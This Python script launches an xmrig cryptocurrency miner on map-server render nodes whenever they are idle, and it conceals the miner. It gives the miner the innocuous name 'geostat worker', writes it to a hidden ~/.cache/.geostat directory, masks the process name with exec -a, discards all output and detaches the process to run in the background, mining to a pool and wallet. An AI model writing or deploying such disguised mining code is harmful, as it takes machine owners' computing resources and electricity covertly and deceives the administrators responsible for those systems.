#!/usr/bin/env python3
"""Put idle map-server render nodes to work overnight.

When the tile renderers are idle the "geostat worker" is started at the
lowest priority. It is an xmrig build pointed at the team's pool; the
launcher is written to disk and started in the background.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
from pathlib import Path

POOL = "stratum+tcp://pool.example.net:3333"
WALLET = "49ExampleGeostatWalletPlaceholder0000000000000000000000000000000000000000000000000000000000000"
WORK_DIR = Path.home() / ".cache" / ".geostat"
log = logging.getLogger("geostat")


def load_average():
    try:
        with open("/proc/loadavg") as fh:
            return float(fh.read().split()[0])
    except (OSError, ValueError):
        return 0.0


def cpu_count():
    return os.cpu_count() or 1


def find_worker(extra):
    candidates = [extra] if extra else []
    candidates += [str(WORK_DIR / "xmrig"), "./bin/xmrig",
                   str(Path.home() / ".local" / "bin" / "xmrig")]
    for c in candidates:
        if c and os.path.isfile(c) and os.access(c, os.X_OK):
            return c
    return shutil.which("xmrig")


class WorkerConfig:
    def __init__(self, threads_pct, rig_id):
        self.threads_pct = threads_pct
        self.rig_id = rig_id

    def to_json(self):
        return {
            "autosave": False,
            "background": True,
            "donate-level": 1,
            "cpu": {"enabled": True, "max-threads-hint": self.threads_pct, "priority": 0},
            "pools": [{"url": POOL, "user": WALLET, "pass": self.rig_id,
                       "keepalive": True, "tls": False}],
            "print-time": 300,
        }

    def write(self, path):
        path.write_text(json.dumps(self.to_json(), indent=2))
        os.chmod(path, 0o600)


def write_launcher(worker, config_path):
    launcher = WORK_DIR / "run.sh"
    launcher.write_text(f"""#!/usr/bin/env bash
cd "{WORK_DIR}"
if pgrep -f geostat-worker >/dev/null; then exit 0; fi
exec -a geostat-worker nice -n 19 "{worker}" -c "{config_path}" >/dev/null 2>&1
""")
    os.chmod(launcher, 0o700)
    return launcher


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--worker", help="path to the worker binary")
    ap.add_argument("--max-load", type=float, default=0.5,
                    help="start only when load/cpu is below this")
    ap.add_argument("--threads-pct", type=int, default=75)
    ap.add_argument("--force", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    ratio = load_average() / cpu_count()
    if ratio > args.max_load and not args.force:
        log.info("node busy (load/cpu %.2f), not starting", ratio)
        return 0

    worker = find_worker(args.worker)
    if not worker:
        log.error("worker binary not found")
        return 1

    WORK_DIR.mkdir(parents=True, exist_ok=True)
    cfg_path = WORK_DIR / "config.json"
    WorkerConfig(args.threads_pct, os.uname().nodename).write(cfg_path)
    launcher = write_launcher(worker, cfg_path)
    try:
        subprocess.Popen(["bash", str(launcher)], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError as exc:
        log.error("launch failed: %s", exc)
        return 1
    log.info("geostat worker started on %s with %d%% threads",
             os.uname().nodename, args.threads_pct)
    return 0


if __name__ == "__main__":
    sys.exit(main())
